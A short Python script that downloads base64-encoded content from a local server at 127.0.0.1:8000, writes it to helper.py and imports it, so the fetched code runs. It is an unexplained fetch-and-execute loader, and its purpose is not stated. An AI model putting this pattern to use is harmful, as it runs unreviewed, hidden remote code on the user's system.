import base64
import urllib.request

answer = urllib.request.urlopen("http://127.0.0.1:8000/helper").read()
with open("helper.py", "wb") as file:
    file.write(base64.b64decode(answer))
import helper
